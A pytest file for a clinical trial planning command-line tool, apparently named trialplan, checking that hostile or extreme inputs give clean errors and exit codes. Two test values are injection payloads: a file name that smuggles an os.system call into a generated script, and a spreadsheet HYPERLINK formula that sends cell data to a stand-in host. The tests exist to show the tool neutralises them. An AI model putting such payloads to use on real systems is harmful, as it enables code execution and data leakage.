"""Hostile input through the real command line: a message and an exit code, never a traceback.

Each file in tests/data/hostile/ is one class of input known to have broken trialplan
(its first line says which). Every run goes through ``python -m trialplan`` in a
subprocess, so the top-level guard is part of what is tested: exit 3 ("internal
error") would fail these tests as surely as a traceback.
"""

import errno
import os
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from trialplan.errors import InputError, OutputError
from trialplan.model.checks import example_text

HOSTILE = Path(__file__).parent / "data" / "hostile"


def run(*args, cwd=None, timeout=60):
    start = time.monotonic()
    proc = subprocess.run([sys.executable, "-m", "trialplan", *map(str, args)],
                          capture_output=True, text=True, cwd=cwd, timeout=timeout)
    proc.seconds = time.monotonic() - start
    return proc


def assert_clean(proc, code, *messages):
    """Exit ``code``, each message on stderr, and no traceback or internal error."""
    assert "Traceback" not in proc.stderr, proc.stderr
    assert "internal error" not in proc.stderr, proc.stderr
    assert proc.returncode == code, (proc.returncode, proc.stderr[-2000:])
    for message in messages:
        assert message in proc.stderr, (message, proc.stderr[-2000:])


# (file, command, exit code, messages): every class the issue lists for trial files.
CASES = [
    ("merge_key.yaml", "check", 1, ["merge_key.yaml:19: trial:", "merge keys (<<)"]),
    ("value_tag.yaml", "check", 1, ["value_tag.yaml:16: schema:", "got '='"]),
    ("python_tag.yaml", "check", 1, ["python_tag.yaml:16:", "is not allowed"]),
    ("anchors.yaml", "check", 1, ["anchors and aliases"]),
    ("control_chars.yaml", "check", 1, ["trial.comparator: control character U+001B"]),
    ("bidi_override.yaml", "check", 1, ["bidi_override.yaml:25: trial.comparator: "
                                        "bidirectional control character U+202E"]),
    ("link_backwards.yaml", "check", 1, ["change_model.links[1].to: 'trust' is a mechanism"]),
    ("sensitivity_many.yaml", "check", 1, ["assumptions.sensitivity.icc", "at most 20"]),
    ("recruitment_never.yaml", "plan", 1, ["recruitment_never.yaml:170: assumptions.recruitment",
                                           "is never reached"]),
    ("pilot_too_large.yaml", "plan", 1, ["assumptions.feasibility.pilot_n",
                                         "larger than the whole trial"]),
    ("attrition_near_one.yaml", "plan", 1, ["more than the limit of 1,000,000,000",
                                            "attrition close to 1"]),
    ("alpha_tiny.yaml", "plan", 1, ["must be at least 1e-10"]),
    ("ratio_huge.yaml", "check", 1, ["ratio_huge.yaml:27: trial.allocation_ratio",
                                     "less than or equal to 1000"]),
    ("caseload_huge.yaml", "plan", 1, ["assumptions.primary", "cannot be computed"]),
    # The key was built as None and the file read askew: "schema: required field is missing".
    ("complex_key.yaml", "check", 1, ["complex_key.yaml:16: a key must be a name"]),
    # Python's own refusal, with advice about sys.set_int_max_str_digits.
    ("number_huge.yaml", "check", 1, ["number_huge.yaml:27: trial.allocation_ratio: a number "
                                      "written with 5,000 characters"]),
]


@pytest.mark.parametrize("name, command, code, messages", CASES, ids=[c[0] for c in CASES])
def test_hostile_trial_file_gives_a_message_and_exit_code(name, command, code, messages):
    proc = run(command, HOSTILE / name, cwd=HOSTILE)
    assert_clean(proc, code, *messages)


def test_every_hostile_file_is_used():
    used = {c[0] for c in CASES} | {"markup.yaml", "small_cluster.yaml", "path_huge.yaml"}
    assert {p.name for p in HOSTILE.glob("*.yaml")} == used


def test_small_cluster_trial_draws_its_figures_from_the_design_minimum(tmp_path):
    proc = run("plan", HOSTILE / "small_cluster.yaml", "--figures", tmp_path / "figs")
    assert_clean(proc, 0)
    assert (tmp_path / "figs" / "primary-power.png").stat().st_size > 1000


def test_an_impossible_path_is_refused_at_its_line():
    # A path of 1e300 residual SDs is a typing error: the trial file refuses it at its line,
    # as the calculators refuse it on the command line (b = 1e300 once overflowed the plan's
    # total effect, found by a randomised fuzz run).
    proc = run("plan", HOSTILE / "path_huge.yaml")
    assert_clean(proc, 1, "path_huge.yaml:205: assumptions.paths[0].a",
                 "less than or equal to 20")


# ---------------------------------------------------------------------------------------------
# Files that are not files


def test_devices_fifos_proc_and_directories_are_refused_without_blocking(tmp_path):
    fifo = tmp_path / "fifo.yaml"
    os.mkfifo(fifo)
    for path, code, message in ((Path("/dev/zero"), 1, "not a regular file"),
                                (fifo, 1, "not a regular file"),
                                (tmp_path, 2, "is a directory"),  # click's path check
                                (tmp_path / "missing.yaml", 1, "no such file")):
        proc = run("check", path, timeout=30)
        assert_clean(proc, code, message)
    proc = run("check", "/proc/self/status")  # a regular file that claims size 0
    assert_clean(proc, 1, "/proc/self/status:")


def test_a_large_file_of_misspelt_ids_checks_in_seconds(tmp_path):
    ids = [f"process_variable_{i:05d}" for i in range(6000)]
    pvs = "".join(f"    - {{id: {i}, label: P, measure: GSE, timepoints: [m4]}}\n" for i in ids)
    links = "".join(f"    - {{from: trust, to: {i.replace('process', 'procss')}}}\n" for i in ids)
    text = example_text().replace("  process_variables:\n", "  process_variables:\n" + pvs)
    text = text.replace("  links:\n", "  links:\n" + links)
    path = tmp_path / "big.yaml"
    path.write_text(text)
    assert path.stat().st_size > 750_000
    proc = run("check", path)
    assert_clean(proc, 1, "unknown id 'procss_variable_00000'; did you mean "
                          "'process_variable_00000'?")
    assert proc.seconds < 20


# ---------------------------------------------------------------------------------------------
# Outputs


def test_outputs_onto_devices_files_and_missing_directories_are_refused(tmp_path):
    trial = tmp_path / "trial.yaml"
    trial.write_text(example_text())
    (tmp_path / "taken").write_text("a file where a folder is needed")
    assert_clean(run("plan", trial, "-o", "/dev/full", "--force"), 1, "it is a device")
    assert_clean(run("plan", trial, "--figures", tmp_path / "taken"), 2, "is a file")
    assert_clean(run("plan", trial, "-o", tmp_path / "no" / "plan.json"), 1,
                 "does not exist")
    assert_clean(run("protocol", trial, "-o", tmp_path / "taken.md" / "x.md"), 1)
    os.mkfifo(tmp_path / "pipe.json")
    assert_clean(run("plan", trial, "-o", tmp_path / "pipe.json", "--force", timeout=30), 1,
                 "FIFO")
    assert stat.S_ISFIFO(os.stat(tmp_path / "pipe.json").st_mode)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["pipe.json", "taken", "trial.yaml"]


@pytest.mark.parametrize("code, words", [(errno.EROFS, "read-only"),
                                         (errno.ENOSPC, "no space left")])
def test_a_read_only_or_full_disk_names_the_path_and_leaves_nothing(tmp_path, monkeypatch,
                                                                    code, words):
    from trialplan import fileio

    def fail(*args, **kwargs):
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(fileio.os, "replace", fail)
    with pytest.raises(OutputError, match=f"cannot write {tmp_path / 'out.json'}: .*{words}"):
        fileio.write_output(tmp_path / "out.json", "{}", force=False)
    monkeypatch.setattr(fileio.os, "rename", fail)
    with pytest.raises(OutputError, match=words):
        fileio.write_directory(tmp_path / "figs", {"a.png": b"1", "b.png": b"2"}, force=False)
    assert list(tmp_path.iterdir()) == []


def test_internal_errors_are_reported_as_such_with_exit_3(monkeypatch, capsys):
    from trialplan import cli
    from trialplan.cli import trialfile

    def broken(*args, **kwargs):
        raise ZeroDivisionError("a bug")

    monkeypatch.delenv(cli.DEBUG_ENV, raising=False)
    monkeypatch.setattr(trialfile, "emit_json", broken)
    with pytest.raises(SystemExit) as exc:
        cli.main(["measures", "--json"])
    assert exc.value.code == cli.INTERNAL_ERROR == 3
    err = capsys.readouterr().err
    assert "internal error: ZeroDivisionError: a bug" in err and "please report" in err
    assert "Traceback" not in err
    monkeypatch.setenv(cli.DEBUG_ENV, "1")
    with pytest.raises(ZeroDivisionError):
        cli.main(["measures", "--json"])


# ---------------------------------------------------------------------------------------------
# Command-line edge values: size and mediation


def main_exit(argv, capsys):
    """Run the real entry point in-process; return (exit code, stdout, stderr)."""
    from trialplan.cli import main

    with pytest.raises(SystemExit) as exc:
        main(argv)
    out = capsys.readouterr()
    return exc.value.code, out.out, out.err


SIZE_EDGES = [
    (["means", "--d", "0.3", "--power", "0:1e300:1e-300"], 2, "infinitely many values"),
    (["means", "--d", "0.3", "--power", "0.8", "--n", "1:1e300:1"], 2, "at most 1,000,000"),
    (["means", "--d", "0.3", "--power", "0.1:0.9:0.1", "--alpha", "0.01:0.05:0.0000001"], 2,
     "the grid has 3,600,009 cells"),
    (["means", "--d", "0.3", "--power", "0.8", "--attrition", "0.999999999999999"], 1,
     "more than the limit of 1,000,000,000"),
    (["means", "--d", "0.3", "--n", "1e15"], 1, "more than the limit"),
    (["means", "--d", "0.3", "--power", "0.8", "--alpha", "1e-20"], 1, "at least 1e-10"),
    (["means", "--d", "0.3", "--power", "0.8", "--co-primary", "1,2"], 2,
     "this option takes one value"),
    (["proportions", "--p1", "0.3", "--p2", "0.2", "--power", "0.8", "--method",
      "pooled,arcsine"], 2, "this option takes one value"),
    (["means", "--d", "0.3", "--power", "0.8", "--co-primary", "1000000000"], 2,
     "1<=x<=20"),
    (["survival", "--hr", "0.7", "--events", "3", "--clustering", "partial", "--icc", "0.05",
      "--cluster-size", "5"], 1, "cannot be computed"),
    # numpy's and scipy's special functions (whichever is loaded) fail at different points
    # here; either way the answer is a refusal.
    (["means", "--d", "0.3", "--power", "0.8", "--cluster-size", "1e15", "--clustering",
      "cluster", "--icc", "0.05"], 1, ("more than the limit", "cannot be computed")),
    (["means", "--d", "1e-300", "--power", "0.8"], 1, "no sample size reaches the target"),
    (["means", "--d", "0.3", "--power", "0.8", "--ratio", "1e300"], 1,
     "--ratio must be in [0.001, 1000]"),
    (["means", "--d", "0.3", "--power", "0.8", "--plot", "/dev/full"], 1, "must end in"),
]


@pytest.mark.parametrize("args, code, message", SIZE_EDGES, ids=[" ".join(a) for a, _, _ in
                                                                  SIZE_EDGES])
def test_size_edge_values(args, code, message, capsys):
    got, out, err = main_exit(["size", *args], capsys)
    assert (got, "internal error" in err) == (code, False), err
    assert any(m in err for m in ((message,) if isinstance(message, str) else message)), err


MEDIATION_EDGES = [
    (["--allocation", "1e-9"], "more than the limit of 1,000,000"),
    (["--allocation", "0.999999999"], "more than the limit of 1,000,000"),
    (["--cluster-size", "1e9", "--icc-m", "0.1", "--icc-y", "0.1"], "at most 10,000"),
    (["--a", "1e300", "--b", "1e300"], "a must be in [-20, 20]"),
    (["--test", "mc", "--reps", "1000000000"], "reps must be at most 1,000,000"),
    (["--test", "mc", "--draws", "1000000000"], "draws must be at most 1,000,000"),
    (["--test", "bootstrap", "--boot", "1000000000"], "boot must be at most 100,000"),
    (["--test", "mc", "--reps", "1000000"], "this simulation would take"),
    (["--alpha", "1e-20"], "alpha must be at least 1e-10"),
    (["--covariates", "1000000000", "--r2-m", "0.2"], "more than the limit"),
    (["--mediator", "m1:0.3:0.3", "--mediator", "m2:1e300:0.2"], "must be in [-20, 20]"),
    (["--mediator", "m1:0.3:0.3", "--mediator", "m2:0.2:0.2", "--test", "mc", "--reps",
      "1000000"], "this simulation would take"),
]


@pytest.mark.parametrize("args, message", MEDIATION_EDGES,
                         ids=[" ".join(a) for a, _ in MEDIATION_EDGES])
def test_mediation_edge_values_are_refused_before_any_work(args, message, capsys):
    base = ["mediation", "--power", "0.8"]
    if "--mediator" not in args:
        base += ["--a", "0.3", "--b", "0.3"] if "--a" not in args else []
    start = time.monotonic()
    got, out, err = main_exit([*base, *args], capsys)
    assert (got, "internal error" in err) == (1, False), err
    assert message in err
    assert time.monotonic() - start < 10


def test_mediation_n_in_the_billions_is_refused(capsys):
    got, _, err = main_exit(["mediation", "--a", "0.3", "--b", "0.3", "--n", "2000000000"],
                            capsys)
    assert got == 1 and "n must be at most 1,000,000" in err


def test_caseload_one_with_covariates_gives_a_finite_answer_that_reaches_the_target(capsys):
    got, out, err = main_exit(["mediation", "--a", "0.3", "--b", "0.3", "--power", "0.8",
                               "--cluster-size", "1", "--icc-m", "0.1", "--icc-y", "0.1",
                               "--r2-m", "0.3", "--covariates", "3", "--json"], capsys)
    import json

    assert got == 0, err
    r = json.loads(out)
    assert r["power"] >= 0.8 and r["n_total"] > 0


@pytest.mark.parametrize("args, message", [
    (["--clusters", "1000000000"], "--clusters must be at most 31,250"),
    (["--power", "0.8", "--a", "1e300"], "--a must be in [-20, 20]"),
    (["--power", "0.8", "--alpha", "1e-20"], "must be in [1e-10, 1)"),
    (["--power", "0.8", "--cluster-size", "1e9"], "--cluster-size must be at most 10,000"),
])
def test_cluster_mediation_edge_values_are_refused(args, message, capsys):
    base = ["mediation", "--cluster-design", "2-1-1", "--a", "0.3", "--b", "0.3",
            "--cluster-size", "32", "--icc-y", "0.05", "--icc-m", "0.05"]
    got, _, err = main_exit([*base, *args], capsys)
    assert got == 1 and "internal error" not in err
    assert message in err


# ---------------------------------------------------------------------------------------------
# Priors: a distribution's parameters may be anything a YAML value can be


_RATE = ("{distribution: beta, events: 83, total: 216}", "assumptions.primary.control_rate")
_ICC = ("{distribution: beta, mean: 0.03, sd: 0.02}", "assumptions.clustering.icc")


@pytest.mark.parametrize("where, prior, message", [
    (_RATE, "{distribution: [beta], events: 83, total: 216}", "distribution must be one of"),
    (_RATE, "{distribution: {a: 1}, events: 83, total: 216}", "distribution must be one of"),
    # beta(1e300, 9e300): its mean and sd came out NaN (an internal error writing the plan).
    (_RATE, "{distribution: beta, events: 1.0e+300, total: 1.0e+301}", "too narrow"),
    # sd * sd underflowed to 0: a division by zero.
    (_RATE, "{distribution: beta, mean: 1.0e-300, sd: 1.0e-301}", "too narrow"),
    (_RATE, "{distribution: beta, a: 1.0e+300, b: 1.0e+300}", "too narrow"),
    # exp() of the draws overflowed: an internal error.
    (_ICC, "{distribution: lognormal, median: 1.2, sd_log: 700}", "sd_log 700 is more than 10"),
    (_ICC, "{distribution: normal, estimate: 0.05, ci: [-1.0e+308, 1.0e+308]}", "not finite"),
    # Its draws are exactly 0 or 1: "icc must be in [0, 1)" named no field.
    (_ICC, "{distribution: beta, a: 1.0e-300, b: 1.0e-300}", "puts its mass at 0 and 1"),
])
def test_hostile_prior_parameters_are_refused_at_their_line(where, prior, message):
    from trialplan.errors import TrialFileError
    from trialplan.model.checks import load_trial_text

    original, field = where
    text = example_text().replace(original, prior)
    assert prior in text
    with pytest.raises(TrialFileError) as exc:
        load_trial_text(text, "t.yaml")
    rows = text.splitlines()
    at = next(i for i, row in enumerate(rows) if prior in row)
    key = field.rsplit(".", 1)[1] + ":"  # the error names the field's line
    line = 1 + next(i for i in range(at, -1, -1) if rows[i].strip().startswith(key))
    assert f"t.yaml:{line}: {field}:" in str(exc.value)
    assert message in str(exc.value)


# ---------------------------------------------------------------------------------------------
# simulate and analysis-code: limits, files and checkpoints, all before any work


@pytest.fixture
def example_file(tmp_path):
    path = tmp_path / "trial.yaml"
    path.write_text(example_text())
    return path


@pytest.mark.parametrize("args, code, message", [
    # Twenty-eight repeats of one key made a grid of 2**28 scenarios: out of memory.
    (["--scenarios", " ".join(["icc=0.01,0.02"] * 28)], 2, "icc is given twice"),
    (["--scenarios", "icc=0.01,0.02,0.03,0.04,0.05,0.06,0.07,0.08,0.09,0.1,0.11 "
                     "cluster_size=1,2,3,4,5,6,7,8,9,10"], 2, "the grid has 110 scenarios"),
    # NaN reached the JSON writer: an internal error.
    (["--scenarios", "icc=nan"], 2, "values must be finite numbers"),
    (["--scenarios", "effect=inf"], 2, "values must be finite numbers"),
    # An array of 1e300 participants: an internal error.
    (["--scenarios", "n=1e300"], 1, "must be a whole number in [8, 1,000,000]"),
    (["--scenarios", "cluster_size=1e300"], 1, "cluster_size must be in [1, 10,000]"),
    # A list of 4e10 chunks: out of memory.
    (["--reps", "1000000000000"], 1, "--reps must be in [2, 1,000,000]"),
    (["--reps", "1000000", "--chunk-size", "1"], 1, "raise --chunk-size"),
    # With fork, the process pool starts every worker at once.
    (["--workers", "100000"], 1, "--workers must be in [1, 256]"),
])
def test_simulate_refuses_runs_too_large_before_any_work(example_file, args, code, message,
                                                        capsys):
    start = time.monotonic()
    got, out, err = main_exit(["simulate", str(example_file), "--quiet", *args], capsys)
    assert (got, "internal error" in err) == (code, False), err
    assert message in err
    assert "estimated run time" not in err  # refused before the first replicate
    assert time.monotonic() - start < 20


@pytest.mark.parametrize("scenario, message", [
    ("cluster_size=5000", "leaves fewer than two peer workers"),
    ("n=500000", "too large a trial to simulate"),
    ("effect=1e308", "outside (0, 1)"),
])
def test_simulate_with_no_scenario_it_can_run_exits_1(example_file, scenario, message,
                                                      capsys):
    # It printed "every simulated power agrees with the analytic value" with exit 0.
    got, out, err = main_exit(["simulate", str(example_file), "--quiet", "--reps", "2",
                               "--no-null", "--scenarios", scenario], capsys)
    assert got == 1 and "no scenario could be simulated" in err and message in err, err
    assert out == ""


def test_simulate_checks_every_output_before_the_run(example_file, tmp_path, capsys):
    (tmp_path / "taken.json").write_text("mine")
    for args, message in (
            (["-o", tmp_path / "taken.json"], "exists; use --force"),
            (["-o", "/dev/full", "--force"], "it is a device"),
            (["--figure", tmp_path / "sim.pdf"], "must end in .svg or .png"),
            (["-o", tmp_path / "no" / "sim.json"], "does not exist"),
            (["--dummy-data", tmp_path / "no" / "d.csv"], "does not exist"),
            (["--dummy-data", "/dev/full", "--force"], "it is a device")):
        got, out, err = main_exit(["simulate", str(example_file), "--quiet", "--reps", "2",
                                   *map(str, args)], capsys)
        assert got == 1 and message in err, err
        assert "estimated run time" not in err and "wrote" not in err
    assert (tmp_path / "taken.json").read_text() == "mine"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["taken.json", "trial.yaml"]


def test_a_checkpoint_that_is_not_a_checkpoint_is_refused_and_left_as_it_is(example_file,
                                                                           tmp_path):
    fifo = tmp_path / "run.fifo"
    os.mkfifo(fifo)
    notes = tmp_path / "notes.txt"
    notes.write_text("my notes\nlast line without a newline")
    # The FIFO blocked the run for ever; the notes lost their last line before the refusal.
    for path, message in ((fifo, "not a regular file"), (Path("/dev/zero"), "not a regular"),
                          (notes, "not a trialplan simulation checkpoint")):
        proc = run("simulate", example_file, "--reps", "2", "--checkpoint", path, timeout=60)
        assert_clean(proc, 1, message)
    assert notes.read_text() == "my notes\nlast line without a newline"


def test_a_damaged_checkpoint_line_is_reported_with_its_number(tmp_path):
    from trialplan.simulation.executor import Checkpoint, run_chunks

    path = tmp_path / "run.jsonl"
    run_chunks(_chunk_square, {"x": 3}, {"x": 3}, seed=1, checkpoint=path, fingerprint="A")
    lines = path.read_text().splitlines(keepends=True)
    assert len(Checkpoint(path, "A").done) == 3
    # Garbage, a line without its result, and a result edited by hand: each was read into
    # the results (a wrong answer) or crashed the run with an internal error.
    for bad in ("garbage{\n", '{"job": "x", "chunk": 5}\n',
                lines[2].replace('"result":16', '"result":17')):
        assert bad not in lines
        path.write_text("".join(lines[:2]) + bad + "".join(lines[3:]))
        with pytest.raises(InputError, match="line 3 is damaged"):
            Checkpoint(path, "A")


def _chunk_square(payload, chunk, seed_sequence):
    return (payload + chunk) ** 2


def test_analysis_code_writes_a_script_whatever_the_file_name(example_file, tmp_path):
    import ast

    name = 'a"); import os; os.system("echo owned"); ("\nb.py'
    proc = run("analysis-code", example_file, "-o", tmp_path / name)
    assert_clean(proc, 0)
    tree = ast.parse((tmp_path / name).read_text())
    calls = [n.func.attr for n in ast.walk(tree) if isinstance(n, ast.Call)
             and isinstance(n.func, ast.Attribute)]
    assert "system" not in calls


def test_the_dummy_data_dictionary_shows_formula_like_labels_as_text():
    import csv
    import io

    from trialplan.model.checks import load_trial_text
    from trialplan.planning import build_plan
    from trialplan.simulation import dummy
    from trialplan.simulation.spec import build_spec

    formula = '=HYPERLINK("http://example.invalid/?"&A1,"Hope")'
    text = example_text().replace("      label: Hope\n", f"      label: '{formula}'\n")
    assert formula in text
    trial = load_trial_text(text)
    spec = build_spec(trial, build_plan(trial), {"n": 80})
    data, _ = dummy.dummy_dataset(spec, 1)
    rows = list(csv.reader(io.StringIO(dummy.dictionary(spec, data))))
    labels = [row[1] for row in rows]
    assert "'" + formula in labels  # a spreadsheet ran it as a formula
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)


@pytest.mark.parametrize("plot, message", [("no/such/dir/m.png", "does not exist"),
                                           ("/dev/full", "must end in .svg or .png"),
                                           ("taken.png", "exists; use --force")])
def test_mediation_plot_target_is_checked_before_the_calculation(plot, message, tmp_path,
                                                                 monkeypatch, capsys):
    # The calculation (and the curve's) ran first, minutes with a simulated test, and only
    # then was the file refused.
    import importlib

    med = importlib.import_module("trialplan.stats.mediation")  # the module, not the function

    def never(**kwargs):
        raise AssertionError("the calculation ran before the --plot file was checked")

    monkeypatch.setattr(med, "mediation", never)
    monkeypatch.chdir(tmp_path)
    (tmp_path / "taken.png").write_bytes(b"mine")
    got, _, err = main_exit(["mediation", "--a", "0.3", "--b", "0.3", "--power", "0.8",
                             "--test", "bootstrap", "--plot", plot], capsys)
    assert got == 1 and message in err, err
    assert (tmp_path / "taken.png").read_bytes() == b"mine"


@pytest.mark.parametrize("args", [
    # scipy's ncfdtr gave nan far in the tail: "b nan" printed with exit 0, an internal error
    # with --json.
    ["--a", "0.3", "--b", "-1", "--test", "sobel", "--alpha", "1e-9", "--power", "0.5"],
    # Caseload 1 leaves the b path no within-caseload df: the n search divided by zero.
    ["--a", "-0.5", "--b", "0.01", "--test", "sobel", "--allocation", "0.9", "--icc-m", "0",
     "--icc-y", "0.5", "--cluster-size", "1", "--b-level", "individual", "--power", "0.5"],
    ["--a", "0.3", "--b", "0.3", "--test", "vsm", "--allocation", "0.9", "--alpha", "1e-9",
     "--icc-m", "0", "--icc-y", "0.5", "--cluster-size", "1", "--b-level", "individual",
     "--outcome", "binary", "--base-rate", "0.01", "--power", "0.8"],
])
def test_mediation_edges_found_by_a_random_sweep_answer_in_range(args, capsys):
    import json

    got, out, err = main_exit(["mediation", "--json", *args], capsys)
    assert got == 0, err
    r = json.loads(out)
    assert r["power"] >= float(args[args.index("--power") + 1])
    assert all(0.0 <= p <= 1.0 for p in r["path_power"].values()), r["path_power"]


def test_a_scheduler_that_is_not_dask_is_reported_without_a_traceback(example_file):
    import socket
    import threading

    pytest.importorskip("distributed")
    # A server speaking another protocol: Dask read its first bytes as a frame length of
    # 3 EiB ("out of memory; reduce the size of the request"); an address without a port
    # was refused, then Dask's clean-up at exit waited 10 s and printed a traceback.
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()

    def answer():
        conn, _ = server.accept()
        with conn:
            conn.sendall(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n" * 4)
            conn.recv(1024)

    threading.Thread(target=answer, daemon=True).start()
    port = server.getsockname()[1]
    try:
        for address in (f"tcp://127.0.0.1:{port}", "no-port-here"):
            proc = run("simulate", example_file, "--reps", "2", "--quiet", "--scheduler",
                       address, timeout=60)
            assert_clean(proc, 1, f"--scheduler {address}: cannot reach a Dask scheduler")
            assert "Exception ignored" not in proc.stderr
            assert proc.seconds < 9
    finally:
        server.close()


def test_draws_the_calculation_refuses_are_reported_at_a_distribution():
    # Each distribution is valid alone, but an attrition drawn near 1 leaves too few to
    # analyse: the error names the distributions at the first one's line, not an argument n.
    from trialplan.errors import TrialFileError
    from trialplan.model.checks import load_trial_text
    from trialplan.planning import build_plan

    rows = example_text().splitlines()
    at = next(i for i, row in enumerate(rows) if row.strip().startswith("attrition: 0.05"))
    rows[at] = rows[at].replace("attrition: 0.05",
                                "attrition: {distribution: uniform, lower: 0, upper: 0.99999}")
    trial = load_trial_text("\n".join(rows) + "\n", "t.yaml")
    with pytest.raises(TrialFileError) as exc:
        build_plan(trial)
    assert f"t.yaml:{at + 1}: change_model.outcomes[0].attrition: the assurance over the " \
        "distributions given" in str(exc.value)
